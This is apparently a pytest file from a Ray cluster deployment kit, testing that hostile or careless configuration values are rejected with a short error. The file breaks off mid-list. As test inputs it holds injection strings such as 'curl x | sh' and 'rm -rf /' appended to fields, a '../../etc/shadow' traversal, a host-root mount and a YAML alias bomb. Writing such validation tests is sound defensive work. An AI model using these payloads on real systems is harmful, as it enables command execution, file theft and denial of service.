"""Bad input, careless or hostile, is refused before anything launches: exit 2, one short
`error:` line naming the key or variable, never a traceback, never a string turned into
YAML structure or shell code. Values-file cases run through the kit's own CLI (kit.main)
on edited copies of the example files; Make-variable cases run through `make` itself."""

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml

from conftest import REPO, USER_VALUES, load_example, make
from scripts import kit
from scripts.commands import checked as entrance
from scripts.build import build, build_text


def set_path(values: dict, dotted: str, value) -> None:
    *parents, last = dotted.split(".")
    for key in parents:
        values = values[key]
    values[last] = value


def rename(values: dict, dotted: str, new_key: str) -> None:
    *parents, last = dotted.split(".")
    for key in parents:
        values = values[key]
    values[new_key] = values.pop(last)


def edited(cluster: str, change) -> bytes:
    values = load_example(cluster)
    change(values)
    return yaml.safe_dump(values, allow_unicode=True).encode()


def kit_error(monkeypatch, capsys, cluster: str, data: bytes) -> str:
    """`kit validate` on `data` as the values file of `cluster`: assert the CLI's contract
    (exit 2, one error line, no traceback) and return that line."""
    monkeypatch.setattr(entrance, "build", lambda name: build_text(name, data))
    code = kit.main(["validate", "--cluster", cluster])
    out, err = capsys.readouterr()
    assert code == 2, out + err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err[:2000]
    assert "Traceback" not in err and len(lines[0]) <= 700
    return lines[0]


# --- the values files -----------------------------------------------------------------

# (case, values file, change, text the error must contain)
VALUE_CASES = [
    # injection through values: a string must never become YAML structure or shell code
    ("newline in cluster_name adds a key", "hetero",
     lambda v: set_path(v, "cluster_name", "hetero\nsetup_commands: [curl x]"), "cluster_name"),
    ("quote in a tag value closes the mapping", "hetero",
     lambda v: set_path(v, "aws.tags", {"team": 'ml"}, {Key: evil, Value: "x'}), "aws.tags.team"),
    ("tag key with a colon and brace", "hetero",
     lambda v: set_path(v, "aws.tags", {"a}: {b": "c"}), "aws.tags"),
    ("tag key overriding Ray's own tag", "hetero",
     lambda v: set_path(v, "aws.tags", {"ray-cluster-name": "other"}), "aws.tags"),
    ("tag key in AWS's namespace", "hetero",
     lambda v: set_path(v, "aws.tags", {"aws:createdBy": "me"}), "aws.tags"),
    ("shell in ssh_user", "hetero",
     lambda v: set_path(v, "aws.ssh_user", "ubuntu; curl x | sh"), "aws.ssh_user"),
    ("newline in key_pair adds a node_config key", "hetero",
     lambda v: set_path(v, "aws.key_pair", "mine\nKeyName: theirs"), "aws.key_pair"),
    ("key_pair that walks out of ~/.ssh", "hetero",
     lambda v: set_path(v, "aws.key_pair", "../../etc/shadow"), "aws.key_pair"),
    ("shell in a volume host path", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/mnt/data; curl x|sh", "container": "/data"}]),
     "docker.volumes.0.host"),
    ("second mount smuggled in a container path", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/mnt/data", "container": "/data -v /:/host"}]),
     "docker.volumes.0.container"),
    ("traversal in a volume host path", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/mnt/../etc", "container": "/data"}]),
     "docker.volumes[0].host"),
    ("host root mounted", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/", "container": "/host"}]), "docker.volumes.0.host"),
    ("a host path on a system directory", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/home/ubuntu", "container": "/data"}]),
     "docker.volumes[0].host: '/home/ubuntu' is a system directory of the node"),
    ("a host path under /etc", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/etc/ray", "container": "/data"}]),
     "docker.volumes[0].host: '/etc/ray' is a system directory"),
    ("two volumes with one container path", "hetero",
     lambda v: set_path(v, "docker.volumes", [{"host": "/mnt/a", "container": "/data"},
                                              {"host": "/mnt/b", "container": "/data"}]),
     "docker.volumes[1].container: '/data' is docker.volumes[0]'s too"),
    ("shell in extra_run_options", "hetero",
     lambda v: set_path(v, "docker.extra_run_options", ["--privileged; curl x"]),
     "docker.extra_run_options.0"),
    ("a mount hidden in extra_run_options", "hetero",
     lambda v: set_path(v, "docker.extra_run_options", ["-v /:/host"]), "docker.extra_run_options.0"),
    ("--volume in extra_run_options", "hetero",
     lambda v: set_path(v, "docker.extra_run_options", ["--volume=/etc:/etc"]),
     "docker.extra_run_options[0]: mounts go in docker.volumes"),
    ("newline in availability_zone", "hetero",
     lambda v: set_path(v, "aws.availability_zone", "us-east-1a\n  extra: 1"), "aws.availability_zone"),
    ("shell in image_id", "hetero",
     lambda v: set_path(v, "aws.image_id", "ami-12345678; rm -rf /"), "aws.image_id"),
    ("a subnet list with a flag in it", "hetero",
     lambda v: set_path(v, "aws.subnet_ids", ["subnet-01234567 --dry-run"]), "aws.subnet_ids.0"),
    ("a security group by name", "hetero",
     lambda v: set_path(v, "aws.security_group_ids", ["default"]), "aws.security_group_ids.0"),
    ("an IAM profile ARN of a user", "hetero",
     lambda v: set_path(v, "aws.iam_instance_profile", "arn:aws:iam::123456789012:user/me"),
     "aws.iam_instance_profile"),
    ("ssh_cidr that is no range", "hetero", lambda v: set_path(v, "aws.ssh_cidr", "10.0.0.300/8"),
     "aws.ssh_cidr"),
    ("ssh_cidr wider than it reads", "hetero", lambda v: set_path(v, "aws.ssh_cidr", "10.0.0.0/0"),
     "aws.ssh_cidr: '10.0.0.0/0' has host bits set, and EC2 reads it as 0.0.0.0/0 (every address on the internet)"),
    ("ssh_cidr with host bits set", "hetero", lambda v: set_path(v, "aws.ssh_cidr", "203.0.113.9/24"),
     "aws.ssh_cidr: '203.0.113.9/24' has host bits set, and EC2 reads it as 203.0.113.0/24"),
    ("ssh_cidr with a leading zero", "hetero", lambda v: set_path(v, "aws.ssh_cidr", "10.01.0.0/16"),
     "aws.ssh_cidr: '10.01.0.0/16' is not an IPv4 range"),
    ("an output place with a '..' prefix part", "hetero", lambda v: set_path(v, "aws.output_buckets", ["team/../etc"]),
     "aws.output_buckets[0]: 'team/../etc': a prefix has no '.' or '..' part"),
    ("an output bucket with two adjacent periods", "hetero", lambda v: set_path(v, "aws.output_buckets", ["te..am/runs"]),
     "aws.output_buckets[0]: 'te..am' has two adjacent periods"),
    ("a bucket name with two adjacent periods", "hetero", lambda v: set_path(v, "aws.data_buckets", ["my..data"]),
     "aws.data_buckets[0]: 'my..data' has two adjacent periods: S3 refuses such a name"),
    ("a bucket name formatted as an IP address", "hetero", lambda v: set_path(v, "aws.data_buckets", ["10.1.2.3"]),
     "aws.data_buckets[0]: '10.1.2.3' is formatted as an IP address"),
    ("a bucket name with a prefix S3 reserves", "hetero", lambda v: set_path(v, "aws.data_buckets", ["okay", "xn--data"]),
     "aws.data_buckets[1]: 'xn--data' starts with a prefix S3 reserves"),
    ("a bucket name with a suffix S3 reserves", "hetero", lambda v: set_path(v, "aws.data_buckets", ["data-s3alias"]),
     "aws.data_buckets[0]: 'data-s3alias' ends with a suffix S3 reserves"),
    ("ssh_cidr for a group the kit does not create", "hetero",
     lambda v: v["aws"].update(ssh_cidr="203.0.113.0/24", security_group_ids=["sg-01234567"]),
     "aws.ssh_cidr: applies to the group the kit creates"),
    # no default region: a region the user never chose would bill where they do not look
    ("no region", "hetero", lambda v: v["aws"].pop("region"),
     "aws: 'region' is required; add it"),
    ("no aws section", "single", lambda v: v.pop("aws"), "(top level): 'aws' is required; add it"),
    ("newline in region", "hetero",
     lambda v: set_path(v, "aws.region", "us-east-1\nfoo: bar"), "aws.region"),
    ("worker type name that adds a node type", "hetero",
     lambda v: rename(v, "workers.cpu_worker", 'w": {}\n  evil'), "workers"),
    ("quote in an instance type", "hetero",
     lambda v: set_path(v, "head.instance_type", 'g5.xlarge"; x'), "head.instance_type"),
    ("newline in volume_type", "hetero",
     lambda v: set_path(v, "head.disk.volume_type", "gp3\nIops: 1"), "head.disk.volume_type"),
    ("newline in a local worker type name", "local",
     lambda v: rename(v, "workers.cpu_worker", "cpu\nhead_node_type: x"), "workers"),
    # values that make no sense, or would fail later
    ("float worker count", "hetero", lambda v: set_path(v, "workers.cpu_worker.min_workers", 2.0),
     "workers.cpu_worker.min_workers"),
    ("boolean worker count", "hetero", lambda v: set_path(v, "workers.cpu_worker.max_workers", True),
     "workers.cpu_worker.max_workers"),
    ("a fleet by typo", "hetero", lambda v: set_path(v, "workers.cpu_worker.max_workers", 4000),
     "workers.cpu_worker.max_workers"),
    ("negative min_workers", "hetero", lambda v: set_path(v, "workers.cpu_worker.min_workers", -1),
     "workers.cpu_worker.min_workers"),
    ("min above max", "hetero", lambda v: set_path(v, "workers.cpu_worker.min_workers", 5),
     "workers.cpu_worker: min_workers (5) > max_workers (4)"),
    ("root disk beyond any EBS volume", "hetero", lambda v: set_path(v, "head.disk.root_gb", 100000),
     "head.disk.root_gb"),
    ("gp3 beyond its 16 TiB", "hetero", lambda v: set_path(v, "head.disk.root_gb", 20000),
     "head.disk.root_gb: 20000 GiB is outside gp3's 1-16384 GiB"),
    ("st1 as a boot volume", "hetero", lambda v: set_path(v, "head.disk.volume_type", "st1"),
     "head.disk.volume_type: st1 cannot be a boot volume"),
    ("standard volume beyond 1 TiB", "hetero",
     lambda v: set_path(v, "head.disk", {"root_gb": 150, "volume_type": "standard", "data_gb": 2000}),
     "head.disk.data_gb: 2000 GiB is outside standard's 1-1024 GiB"),
    ("zero idle timeout", "hetero", lambda v: set_path(v, "idle_timeout_minutes", 0), "idle_timeout_minutes"),
    ("idle timeout of months", "local", lambda v: set_path(v, "idle_timeout_minutes", 100000),
     "idle_timeout_minutes"),
    ("idle timeout as text", "hetero", lambda v: set_path(v, "idle_timeout_minutes", "10"),
     "idle_timeout_minutes"),
    ("spot as text", "hetero", lambda v: set_path(v, "workers.cpu_worker.spot", "yes"),
     "workers.cpu_worker.spot: 'yes' is not of type 'boolean'"),
    ("uppercase cluster_name", "hetero", lambda v: set_path(v, "cluster_name", "Hetero"), "cluster_name"),
    ("zero-width space in cluster_name", "hetero", lambda v: set_path(v, "cluster_name", "het\u200bero"),
     "U+200B"),
    ("no-break space in a tag value", "hetero", lambda v: set_path(v, "aws.tags", {"team": "ml\u00a0x"}),
     "U+00A0"),
    ("bidi override in a worker name", "hetero", lambda v: rename(v, "workers.cpu_worker", "cpu\u202eworker"),
     "U+202E"),
    ("over-long cluster_name", "hetero", lambda v: set_path(v, "cluster_name", "a" * 200), "cluster_name"),
    ("a date for cluster_name", "hetero", lambda v: set_path(v, "cluster_name", __import__("datetime").date(2020, 1, 1)),
     "cluster_name"),
    ("zero CPUs", "local", lambda v: set_path(v, "head.cpus", 0), "head.cpus"),
    ("fractional CPUs", "local", lambda v: set_path(v, "workers.cpu_worker.cpus", 1.5), "workers.cpu_worker.cpus"),
    ("more memory than this machine", "local",
     lambda v: v["workers"]["cpu_worker"].update(memory_mb=262144, max_workers=16, min_workers=1),
     "more than this machine's"),
    ("no trainer slot on a head that trains", "local", lambda v: set_path(v, "head.trainer_slots", 0),
     "head.trainer_slots: a head with role train needs a trainer slot"),
    # several train nodes: roles, not positions (issue 26)
    ("a head that trains beside train workers", "local_multi", lambda v: set_path(v, "head", {
        **v["head"], "role": "train", "trainer_slots": 1}),
     "head.role: the head trains, and so do worker type(s) gpu_worker; with train workers set role: coordinate"),
    ("a coordinating head with a trainer slot", "local_multi", lambda v: set_path(v, "head.trainer_slots", 1),
     "head.trainer_slots: a coordinating head trains nothing"),
    ("a coordinating head that preprocesses", "local_multi", lambda v: set_path(v, "head.preprocess", True),
     "head.preprocess: a coordinating head gives Ray no CPUs for work"),
    ("a coordinating head and no train worker", "local_multi",
     lambda v: set_path(v, "workers.gpu_worker.role", "preprocess"), "head.role: a coordinating head needs train worker types"),
    ("a train worker without a slot", "local_multi", lambda v: set_path(v, "workers.gpu_worker.trainer_slots", 0),
     "workers.gpu_worker.trainer_slots: a train worker needs a trainer slot"),
    ("a train worker with fewer CPUs than slots", "local_multi",
     lambda v: set_path(v, "workers.gpu_worker.trainer_slots", 2), "workers.gpu_worker.cpus: each training worker holds a CPU"),
    ("a training head with fewer CPUs than slots", "local_hetero",
     lambda v: (set_path(v, "head.preprocess", False), set_path(v, "head.cpus", 1),
                set_path(v, "head.trainer_slots", 2)),
     "head.cpus: each training worker holds a CPU; set cpus: 2 or more"),
    ("a preprocess worker with a slot", "local_multi", lambda v: set_path(v, "workers.cpu_worker.trainer_slots", 1),
     "workers.cpu_worker.trainer_slots: a preprocess worker trains nothing"),
    ("train workers in a homogeneous mix", "local_multi", lambda v: set_path(v, "mix", "homogeneous"),
     "mix: train worker types belong to a heterogeneous mix"),
    ("an unknown role", "local_multi", lambda v: set_path(v, "workers.gpu_worker.role", "trainer"),
     "workers.gpu_worker.role"),
    ("train nodes of two GPU models", "multi_g5", lambda v: set_path(v, "workers", {
        **v["workers"], "l4_worker": {**v["workers"]["gpu_worker"], "instance_type": "g6.12xlarge"}}),
     "the train nodes have different GPUs (A10G, L4)"),
    ("a GPU head that only coordinates", "multi_g5", lambda v: set_path(v, "head.instance_type", "g5.xlarge"),
     "head.instance_type: g5.xlarge has 1 GPU(s), but a coordinating head uses none"),
    ("a GPU head that trains beside train workers", "multi_g5", lambda v: set_path(v, "head", {
        **v["head"], "role": "train", "instance_type": "g5.xlarge"}),
     "head.role: the head trains, and so do worker type(s) gpu_worker"),
    ("a train worker type without a GPU", "multi_g5",
     lambda v: set_path(v, "workers.gpu_worker.instance_type", "c5.18xlarge"),
     "workers.gpu_worker.instance_type: c5.18xlarge has no GPU, but the type has role train"),
    ("an AWS coordinating head and no train worker", "multi_g5",
     lambda v: set_path(v, "workers", {"cpu_worker": v["workers"]["cpu_worker"]}),
     "head.role: a coordinating head needs train worker types"),
    ("more pinned cores than this machine has", "local_hetero",
     lambda v: set_path(v, "workers.cpu_worker.max_workers", 16),
     "pin_cpus: the nodes need 17 cores of their own at max_workers"),
    ("zero cores", "local_single", lambda v: set_path(v, "head.cores", 0), "head.cores"),
    ("quotas past this machine's cores", "local_autopilot",
     lambda v: set_path(v, "workers.cpu_worker.cpu_quota", 8),
     "cpu_quota: the nodes' quotas at max_workers add up to 24 cores, more than this machine's"),
    ("a quota past a pinned node's cores", "local_single", lambda v: set_path(v, "head.cpu_quota", 2),
     "head.cpu_quota: 2 cores of time on 1 pinned core(s); set at most 1, or pin_cpus: false"),
    ("a quota too small to run", "local_autopilot", lambda v: set_path(v, "workers.cpu_worker.cpu_quota", 0.01),
     "workers.cpu_worker.cpu_quota"),
    ("a quota as a string", "local_autopilot", lambda v: set_path(v, "workers.cpu_worker.cpu_quota", "1/4"),
     "workers.cpu_worker.cpu_quota"),
    # GPUs on the local cluster (this machine has none; tests/local/test_gpus.py has two)
    ("a GPU this machine lacks", "local", lambda v: set_path(v, "head.gpus", 1),
     "gpus: the train nodes ask for 1 GPU(s) at max_workers, this machine offers none (NVML sees no GPU)"),
    ("GPUs on a preprocess node", "local", lambda v: set_path(v, "workers.cpu_worker.gpus", 1),
     "workers.cpu_worker.gpus: a node that does not train would hold 1 GPU(s) idle; set gpus: 0"),
    ("GPUs on a coordinating head", "local_multi", lambda v: set_path(v, "head.gpus", 2),
     "head.gpus: a node that does not train would hold 2 GPU(s) idle"),
    ("more GPUs than trainer slots", "local_multi", lambda v: set_path(v, "workers.gpu_worker.gpus", 2),
     "workers.gpu_worker.gpus: one training worker per GPU: set gpus: 1 (its trainer_slots), or 0"),
    ("GPUs as a word", "local", lambda v: set_path(v, "head.gpus", "all"),
     "head.gpus: 'all' is not allowed; auto (a train node gets one of this machine's GPUs"),
    ("GPUs past the bound", "local", lambda v: set_path(v, "head.gpus", 9), "head.gpus: 9 is not allowed"),
    ("a head that trains and preprocesses on one CPU", "local_single", lambda v: set_path(v, "head.cpus", 1),
     "head.cpus: a head that trains and preprocesses needs a CPU per trainer slot plus one; set cpus: 2"),
    ("a local worker type its prices_as file lacks", "local_hetero", lambda v: rename(v, "workers.cpu_worker", "cruncher"),
     "workers.cruncher: hetero.yaml has no worker type 'cruncher'"),
    # a name alone is no match: a training head is not priced as a coordinating one
    ("a node priced as a node of the same name but another role", "local_hetero",
     lambda v: set_path(v, "prices_as", "multi_g5"),
     "head.role: train here, but multi_g5.yaml's is coordinate: it would be priced as the other kind"),
    ("a train type that can never start", "multi_g5",
     lambda v: (set_path(v, "workers.gpu_worker.min_workers", 0), set_path(v, "workers.gpu_worker.max_workers", 0)),
     "workers.gpu_worker.max_workers: 0, so this train type never starts"),
    ("pin_cpus as a string", "local", lambda v: set_path(v, "pin_cpus", "yes"), "pin_cpus"),
    ("a GPU older than the pinned torch supports", "single",
     lambda v: set_path(v, "head.instance_type", "p3.2xlarge"),
     "head.instance_type: p3.2xlarge: its V100 (compute capability 7.0) is older than the pinned "
     "torch CUDA 13.0 build supports (sm_75 and newer)"),
    ("41 tags", "hetero", lambda v: set_path(v, "aws.tags", {f"t{i}": "x" for i in range(41)}), "aws.tags"),
    ("11 worker types", "local",
     lambda v: set_path(v, "workers", {f"w{i}": {"cpus": 1, "min_workers": 0, "max_workers": 1} for i in range(11)}),
     "workers"),
    # shape and rules
    ("key typo in head", "hetero", lambda v: rename(v, "head.instance_type", "instnce_type"),
     "head.instnce_type: unknown key; did you mean 'instance_type'"),
    ("key typo at top level", "hetero", lambda v: rename(v, "idle_timeout_minutes", "idle_timout_minutes"),
     "idle_timout_minutes: unknown key; did you mean 'idle_timeout_minutes'"),
    ("key typo in a local worker", "local", lambda v: rename(v, "workers.cpu_worker.cpus", "cpu"),
     "workers.cpu_worker.cpu: unknown key; did you mean 'cpus'"),
    ("missing required key", "hetero", lambda v: v["head"].pop("disk"), "head: 'disk' is required"),
    ("unknown provider is never a fallback", "hetero", lambda v: set_path(v, "provider", "gcp"),
     "provider: 'gcp' is not one of aws, kuberay, local"),
    ("no provider", "local", lambda v: v.pop("provider"), "provider: None is not one of"),
    ("unknown mix", "hetero", lambda v: set_path(v, "mix", "hetero"), "mix: 'hetero' is not one of"),
    ("unknown instance type", "hetero", lambda v: set_path(v, "workers.cpu_worker.instance_type", "c5.4xlage"),
     "workers.cpu_worker.instance_type: unknown instance type 'c5.4xlage'; did you mean 'c5.4xlarge'?"),
    ("unknown EBS type", "hetero", lambda v: set_path(v, "head.disk.volume_type", "gp9"),
     "head.disk.volume_type: 'gp9' is not an EBS volume type"),
    ("GPU-less head in a hetero mix", "hetero", lambda v: set_path(v, "head.instance_type", "c5.4xlarge"),
     "head.instance_type: c5.4xlarge has no GPU"),
    ("GPU worker in a hetero mix", "hetero", lambda v: set_path(v, "workers.cpu_worker.instance_type", "g5.xlarge"),
     "workers.cpu_worker.instance_type: g5.xlarge has 1 GPU(s), but the type has role preprocess"),
    ("root disk too small for the image", "hetero", lambda v: set_path(v, "head.disk.root_gb", 60),
     "head.disk.root_gb: 60 GB is too small"),
    ("unknown region", "hetero", lambda v: set_path(v, "aws.region", "us-east-7"), "aws.region: unknown region"),
    ("AMI whose driver is too old for torch's CUDA", "hetero",
     lambda v: set_path(v, "aws.image_id", "ami-0bbdd5918468148eb"),
     "aws.image_id: ami-0bbdd5918468148eb (DLAMI 20250505) has NVIDIA driver 570; torch's CUDA "
     "13.0 needs >= 580: set image_id: auto"),
    ("known AMI of another region", "hetero",
     lambda v: (set_path(v, "aws.region", "eu-west-1"), set_path(v, "aws.image_id", "ami-0bbdd5918468148eb")),
     "aws.image_id: ami-0bbdd5918468148eb is an AMI of us-east-1, not eu-west-1"),
    ("image_id null (auto is the default)", "hetero", lambda v: set_path(v, "aws.image_id", None),
     "aws.image_id"),
    ("zone outside the region", "hetero", lambda v: set_path(v, "aws.availability_zone", "us-west-2a"),
     "aws.availability_zone: us-west-2a is not in region us-east-1"),
    ("data volume the same size as root", "hetero", lambda v: set_path(v, "head.disk.data_gb", 150),
     "head.disk.data_gb: must differ from root_gb"),    # KubeRay: every string lands as one value of the RayCluster, in Kubernetes syntax
    ("newline in a KubeRay cluster_name", "k8s_hetero",
     lambda v: set_path(v, "cluster_name", "k8s\nspec: {}"), "cluster_name"),
    ("underscore in a KubeRay cluster_name (not a DNS-1035 label)", "k8s_hetero",
     lambda v: set_path(v, "cluster_name", "k8s_hetero"), "cluster_name: 'k8s_hetero' is not allowed"),
    ("KubeRay group name with '_' (pod names refuse it)", "k8s_hetero",
     lambda v: rename(v, "workers.cpu-worker", "cpu_worker"), "workers: 'cpu_worker' is not allowed; a Kubernetes name"),
    ("namespace with a slash", "k8s_hetero",
     lambda v: set_path(v, "kubernetes.namespace", "ray/../kube-system"), "kubernetes.namespace"),
    ("image with a shell command", "k8s_hetero",
     lambda v: set_path(v, "images.cpu", "rayproject/ray:2.60.0; curl x | sh"), "images.cpu"),
    ("node selector value with a space", "k8s_hetero",
     lambda v: set_path(v, "head.node_selector", {"node.kubernetes.io/instance-type": "g5 xlarge"}),
     "head.node_selector.node.kubernetes.io/instance-type"),
    ("node selector key with two slashes", "k8s_hetero",
     lambda v: set_path(v, "head.node_selector", {"a/b/c": "x"}), "head.node_selector"),
    ("toleration with an unknown effect", "k8s_hetero",
     lambda v: set_path(v, "head.tolerations", [{"key": "nvidia.com/gpu", "effect": "Sometimes"}]),
     "head.tolerations.0.effect"),
    ("GPU-less head with role train", "k8s_hetero", lambda v: set_path(v, "head.pod.gpus", 0),
     "head.pod.gpus: a head with role train needs a GPU"),
    ("GPUs on a preprocess group", "k8s_hetero", lambda v: set_path(v, "workers.cpu-worker.pod.gpus", 1),
     "workers.cpu-worker.pod.gpus: a preprocess group trains nothing"),
    ("coordinating head with GPUs", "k8s_multi", lambda v: set_path(v, "head.pod.gpus", 1),
     "head.pod.gpus: a coordinating head trains nothing"),
    ("train group without GPUs", "k8s_multi", lambda v: set_path(v, "workers.gpu-worker.pod.gpus", 0),
     "workers.gpu-worker.pod.gpus: a train group needs GPUs"),
    # each training worker holds a CPU (raykit.cluster.scaling_config): fewer and the job waits
    ("a train group with fewer CPUs than GPUs", "k8s_multi", lambda v: set_path(v, "workers.gpu-worker.pod.cpus", 3),
     "workers.gpu-worker.pod.cpus: each of its 4 training workers holds a CPU; set cpus: 4 or more"),
    ("a training head that preprocesses on its one CPU", "k8s_hetero",
     lambda v: (set_path(v, "head.preprocess", True), set_path(v, "head.pod.cpus", 1)),
     "head.pod.cpus: each of its 1 training worker(s) holds a CPU, and preprocessing needs one more; set cpus: 2"),
    # a pod asking for what its node selector's instance type cannot give waits Pending
    ("a pod that barely fits its node (28 of a c5.4xlarge's 32 GiB)", "k8s_hetero",
     lambda v: set_path(v, "workers.cpu-worker.pod.memory_gb", 28),
     "workers.cpu-worker.pod.memory_gb: 28 GiB of a c5.4xlarge's 32 GiB leaves too little"),
    ("a pod asking for more GPUs than its node has", "k8s_hetero", lambda v: set_path(v, "head.pod.gpus", 2),
     "head.pod.gpus: 2 GPU(s), but a g5.xlarge has 1"),
    ("a pod asking for every vCPU of its node", "k8s_hetero",
     lambda v: set_path(v, "workers.cpu-worker.pod.cpus", 16),
     "workers.cpu-worker.pod.cpus: 16 of a c5.4xlarge's 16 vCPUs leaves none"),
    # the head's node also holds its autoscaler and watchdog sidecars and make run's submitter
    ("a head pod with no room for its sidecars", "k8s_hetero", lambda v: set_path(v, "head.pod.cpus", 3),
     "head.pod.cpus: 3 of a g5.xlarge's 4 vCPUs leaves none for the kubelet and DaemonSets and the 0.8 "
     "vCPUs, 1.5 GiB of its sidecars and make run's submitter; ask for at most 2"),
    ("a head pod with no memory for its sidecars", "k8s_hetero", lambda v: set_path(v, "head.pod.memory_gb", 12),
     "head.pod.memory_gb: 12 GiB of a g5.xlarge's 16 GiB leaves too little"),
    ("/dev/shm as large as the pod's memory", "k8s_hetero",
     lambda v: set_path(v, "head.pod.shm_gb", 12), "head.pod.shm_gb: /dev/shm counts against"),
    ("two volumes on one mount", "k8s_multi",
     lambda v: v["volumes"].append({"claim": "other", "mount": "/data", "read_only": True}),
     "volumes: two volumes share a mount"),
    ("a volume over the image's home", "k8s_multi", lambda v: set_path(v, "volumes", [
        {"claim": "data", "mount": "/home/ray", "read_only": True}]), "volumes[0].mount: /home/ray would hide"),
    ("a volume under /dev through '..'", "k8s_multi", lambda v: set_path(v, "volumes", [
        {"claim": "data", "mount": "/data/../dev/shm", "read_only": True}]), "volumes[0].mount"),
    # mounts as the container sees them: slashes collapsed, whole trees the image needs
    ("a volume over /usr written //usr/", "k8s_multi", lambda v: set_path(v, "volumes", [
        {"claim": "data", "mount": "//usr/", "read_only": True}]), "volumes[0].mount: //usr/ would hide"),
    ("a volume under the image's Python", "k8s_multi", lambda v: set_path(v, "volumes", [
        {"claim": "data", "mount": "/home/ray/anaconda3/lib/python3.11/site-packages", "read_only": True}]),
     "volumes[0].mount: /home/ray/anaconda3/lib/python3.11/site-packages would hide"),
    ("a volume under /usr/lib", "k8s_multi", lambda v: set_path(v, "volumes", [
        {"claim": "data", "mount": "/usr/lib/x86_64-linux-gnu", "read_only": True}]), "volumes[0].mount"),
    ("two volumes on one mount, one with a trailing slash", "k8s_multi",
     lambda v: v["volumes"].append({"claim": "other", "mount": "//data/", "read_only": True}),
     "volumes: two volumes share a mount"),
    # Ray's own images of another Ray or Python than the kit's: the first job fails on the pods
    ("a stock image of another Ray release", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject/ray:2.59.0-py311-cpu"),
     "images.cpu: 'rayproject/ray:2.59.0-py311-cpu' runs Ray 2.59.0 on py311, and the kit's jobs and client are Ray 2.60.0"),
    ("a stock image of another Python", "k8s_hetero", lambda v: set_path(v, "images.gpu", "docker.io/rayproject/ray:2.60.0-py312-cpu"),
     "images.gpu: 'docker.io/rayproject/ray:2.60.0-py312-cpu' runs Ray 2.60.0 on py312"),
    ("a stock image whose tag moves", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject/ray:latest"),
     "images.cpu: 'rayproject/ray:latest': the tag 'latest' names no Ray release (2.60.0)"),
    ("the last ray-ml image", "k8s_hetero", lambda v: set_path(v, "images.gpu", "rayproject/ray-ml:2.49.0-py311-gpu"),
     "runs Ray 2.49.0 on py311"),
    # image references the runtime refuses (the pod would wait in InvalidImageName)
    ("an image with an empty path component", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject//ray:2.60.0"),
     "images.cpu: 'rayproject//ray:2.60.0' is no image reference"),
    ("an image with two tags", "k8s_hetero", lambda v: set_path(v, "images.gpu", "rayproject/ray:2.60:gpu"),
     "images.gpu: 'rayproject/ray:2.60:gpu': the tag"),
    ("an image with an empty tag", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject/ray:"),
     "images.cpu: 'rayproject/ray:': the tag ''"),
    ("an image with no tag (latest)", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject/ray"),
     "images.cpu: 'rayproject/ray' names no tag"),
    ("an image path starting with a separator", "k8s_hetero", lambda v: set_path(v, "images.cpu", "ray/-ray:1"),
     "images.cpu: 'ray/-ray:1' is no image reference"),
    ("an image with a short digest", "k8s_hetero", lambda v: set_path(v, "images.cpu", "rayproject/ray@sha256:abc"),
     "images.cpu"),
    # tolerations the API server refuses (the pod is never created)
    ("a toleration key with a bad prefix", "k8s_hetero", lambda v: set_path(v, "head.tolerations", [
        {"key": "nvidia..com/gpu", "operator": "Exists", "effect": "NoSchedule"}]),
     "head.tolerations[0].key: prefix part must be a DNS-1123 subdomain"),
    ("a toleration key name over 63", "k8s_hetero", lambda v: set_path(v, "head.tolerations", [
        {"key": "a" * 64, "operator": "Exists", "effect": "NoSchedule"}]), "head.tolerations[0].key: name part"),
    ("a value with operator Exists", "k8s_hetero", lambda v: set_path(v, "head.tolerations", [
        {"key": "nvidia.com/gpu", "operator": "Exists", "value": "true", "effect": "NoSchedule"}]),
     "head.tolerations[0].value: must be empty with operator Exists"),
    ("a KubeRay preprocess group selecting a GPU type", "k8s_hetero",
     lambda v: set_path(v, "workers.cpu-worker.node_selector", {"node.kubernetes.io/instance-type": "g5.xlarge"}),
     "workers.cpu-worker.node_selector: g5.xlarge has 1 GPU(s), but the group has role preprocess"),
    ("KubeRay min_workers above max_workers", "k8s_multi",
     lambda v: set_path(v, "workers.cpu-worker.min_workers", 9), "workers.cpu-worker: min_workers (9) > max_workers (8)"),
    ("a pod field KubeRay does not know", "k8s_hetero",
     lambda v: set_path(v, "head.pod.privileged", True), "head.pod.privileged: unknown key"),
]

# (case, values file text, text the error must contain)
BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
FILE_CASES = [
    ("duplicate top-level key", b"cluster_name: a\nprovider: local\ncluster_name: b\n",
     "line 3: duplicate key 'cluster_name'"),
    ("duplicate nested key", b"cluster_name: a\nprovider: local\nhead: {cpus: 1, cpus: 8}\n",
     "duplicate key 'cpus'"),
    ("not UTF-8", "cluster_name: h\u00e9tero\n".encode("latin-1"), "not UTF-8"),
    ("not YAML", b"cluster_name: [local\nprovider: local\n", "not valid YAML"),
    ("tabs for indentation", b"head:\n\tcpus: 1\n", "not valid YAML: line 2: a tab; YAML indents with spaces only"),
    # PyYAML's words translated into the mistake's, its own kept after them
    ("a key indented off its mapping", b"cluster_name: a\nprovider: local\nhead:\n  cpus: 2\n trainer_slots: 1\n",
     "line 5: this key is indented differently from the keys above it"),
    ("a second colon on a line", b"cluster_name: a: b\n", "line 1: a second ':' on one line"),
    ("a typo'd required key said once", b"cluster_name: a\nprovider: local\nhead: {cpsu: 1}\n",
     "head.cpsu: unknown key; did you mean 'cpus'?"),
    ("a list at the top", b"- provider: local\n", "expected a mapping of keys at the top"),
    ("an empty file", b"", "expected a mapping of keys at the top"),
    ("alias bomb", BILLION_LAUGHS.encode(), "more than 50 YAML aliases"),
    ("alias doubling under the alias cap",  # 46 aliases, 2**24 values
